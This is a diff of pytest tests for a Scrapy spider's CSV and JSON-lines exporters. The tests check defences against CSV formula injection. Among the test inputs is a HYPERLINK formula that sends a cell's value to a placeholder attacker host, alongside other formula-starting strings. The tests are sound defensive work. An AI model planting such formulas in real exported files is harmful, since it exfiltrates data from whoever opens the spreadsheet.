@@ -1,7 +1,9 @@
-"""Feed exporters: Excel CSV (BOM once, columns, JSON cells) and unescaped JSON lines."""
+"""Feed exporters: Excel CSV (BOM once, columns, JSON cells, no runnable cells) and unescaped
+JSON lines; ``run_feeds()`` writes items through Scrapy's own feed machinery, in process."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import datetime as dt
 import io
@@ -18,9 +20,18 @@ from typing import Any
 import pytest
 import scrapy
 from scrapy.exporters import JsonLinesItemExporter
+from scrapy.utils.test import get_crawler
 
-from pgy_spider.exporters import CSV_FIELDS, ExcelCsvItemExporter, OrjsonLinesItemExporter
+from pgy_spider import settings as project_settings
+from pgy_spider.exporters import (
+    CSV_FIELDS,
+    FORMULA_STARTS,
+    ExcelCsvItemExporter,
+    OrjsonLinesItemExporter,
+)
 from pgy_spider.notes import NOTE_FIELDS, normalize_note
+from tests.support.crawl import read_jsonl, run_crawl
+from tests.support.simulator import SimulatorClient, make_note_id
 from tests.test_notes import FETCHED_AT, NOTE_ID, sample_data
 
 REPO_ROOT = Path(__file__).resolve().parent.parent
@@ -99,10 +110,56 @@ def test_csv_booleans_and_none() -> None:
 
 def test_csv_ids_and_multiline_text_are_kept_exactly() -> None:
     ids = {"noteId": "650000000000000000e00012", "userId": "000123", "redId": "1234567890123456789"}
-    content = '第一行\n第二行, "引号" 😀\r\n=SUM(A1)'
+    content = '第一行\n第二行, "引号" 😀\r\n=SUM(A1)'  # a formula sign inside is harmless
     (row,) = read_csv(export(ExcelCsvItemExporter, [note(content=content, **ids)]))
     assert {key: row[key] for key in ids} == ids
     assert row["content"] == content
+
+
+# Titles that Excel and LibreOffice would run as formulas (OWASP's CSV injection).
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+@pytest.mark.parametrize("text", FORMULA_TEXTS)
+def test_csv_text_that_would_run_gets_a_leading_quote(text: str) -> None:
+    item = note(title=text, content=text, name=text, kol={"nickName": text})
+    (row,) = read_csv(export(ExcelCsvItemExporter, [item]))
+    assert row["title"] == row["content"] == row["name"] == "'" + text
+    assert json.loads(row["kol"]) == {"nickName": text}  # JSON text starts with "{": harmless
+
+
+def test_csv_neutralises_by_type_never_numbers() -> None:
+    item = note(likeNum=-5, impNum=0, videoDuration=-1.5, title="-5", redId="")
+    (row,) = read_csv(export(ExcelCsvItemExporter, [item]))
+    assert row["likeNum"] == "-5" and row["videoDuration"] == "-1.5"  # numbers: as they are
+    assert row["title"] == "'-5"  # the same characters as text: neutralised
+    assert row["redId"] == ""  # an empty string stays empty
+    assert frozenset("=+-@\t\r") == FORMULA_STARTS
+
+
+def test_csv_harmless_text_is_untouched() -> None:
+    texts = ["周末探店😋", " =1+1", "'quoted", "1+1", "a=b", "#话题", "", "\n=1"]
+    items = [note(title=text, noteId=f"{i:024x}") for i, text in enumerate(texts)]
+    assert [row["title"] for row in read_csv(export(ExcelCsvItemExporter, items))] == texts
+
+
+def test_csv_field_serializers_run_before_neutralising() -> None:
+    item = NoteItem(noteId=NOTE_ID, topics=[], title="=cmd")
+    (row,) = read_csv(export(ExcelCsvItemExporter, [item]))
+    assert row["title"] == "'=CMD"
+
+
+def test_json_lines_keep_formula_text_exactly() -> None:
+    items = [note(title=text, noteId=f"{i:024x}") for i, text in enumerate(FORMULA_TEXTS)]
+    lines = export(OrjsonLinesItemExporter, items).decode("utf-8").split("\n")[:-1]
+    assert [json.loads(line)["title"] for line in lines] == list(FORMULA_TEXTS)
 
 
 def test_csv_missing_keys_become_empty_cells() -> None:
@@ -268,3 +325,62 @@ def test_scrapy_feed_overwrite_then_append(tmp_path: Path) -> None:
     assert len(lines) == 2 and b"\\u" not in lines[0]
     assert lines[0].startswith(b'{"noteId":"')  # compact: written by OrjsonLinesItemExporter
     assert json.loads(lines[0])["name"] == "曹操来了"
+
+
+# --- in process, through Scrapy's feed machinery --------------------------------------------------
+
+
+class ItemsSpider(scrapy.Spider):
+    """Yields the items it is given: the simulator's titles are fixed, these are chosen."""
+
+    name = "items"
+
+    def __init__(self, items: list[dict[str, Any]], **kwargs: Any) -> None:
+        super().__init__(**kwargs)
+        self.items = items
+
+    async def start(self):  # type: ignore[no-untyped-def]
+        for item in self.items:
+            yield item
+
+
+def run_feeds(tmp_path: Path, items: list[dict[str, Any]], **formats: str) -> dict[str, Path]:
+    """Export ``items`` to ``name=format`` feeds under ``tmp_path`` with the project's
+    registered exporters, in this process (reactorless asyncio), and return their paths."""
+    paths = {fmt: tmp_path / name for name, fmt in formats.items()}
+    crawler = get_crawler(
+        ItemsSpider,
+        {
+            "TWISTED_REACTOR_ENABLED": False,
+            "FEED_EXPORTERS": project_settings.FEED_EXPORTERS,
+            "FEED_EXPORT_ENCODING": project_settings.FEED_EXPORT_ENCODING,
+            "FEEDS": {str(path): {"format": fmt, "overwrite": True} for fmt, path in paths.items()},
+            "LOG_LEVEL": "WARNING",
+        },
+    )
+    asyncio.run(crawler.crawl_async(items=items))
+    stats = crawler.stats.get_stats() if crawler.stats else {}
+    assert stats.get("finish_reason") == "finished", stats
+    assert stats.get("feedexport/success_count/FileFeedStorage") == len(paths), stats
+    return paths
+
+
+def test_feeds_in_process_neutralise_only_the_csv(tmp_path: Path) -> None:
+    items = [note(title=text, noteId=f"{i:024x}") for i, text in enumerate(FORMULA_TEXTS)]
+    items.append(note(title="周末探店😋", noteId="f" * 24, likeNum=-3))
+    paths = run_feeds(tmp_path, items, **{"notes.csv": "csv", "notes.jsonl": "jsonlines"})
+    rows = read_csv(paths["csv"].read_bytes())
+    assert [row["title"] for row in rows] == ["'" + t for t in FORMULA_TEXTS] + ["周末探店😋"]
+    assert rows[-1]["likeNum"] == "-3"
+    assert [n["title"] for n in read_jsonl(paths["jsonlines"])] == [i["title"] for i in items]
+
+
+def test_failed_file_keeps_a_rejected_formula_seed(tmp_path: Path, sim: SimulatorClient) -> None:
+    good = make_note_id(0)
+    result = run_crawl(
+        tmp_path, "-a", f"ids==1+2,@SUM(A1),{good}", "-O", "notes.csv", sim_url=sim.url
+    )
+    assert result.returncode == 0, result
+    assert sorted(r["seed"] for r in result.failed) == ["=1+2", "@SUM(A1)"]  # as given
+    assert [row["noteId"] for row in read_csv((tmp_path / "notes.csv").read_bytes())] == [good]
+    assert sim.stats()["calls"] == 1
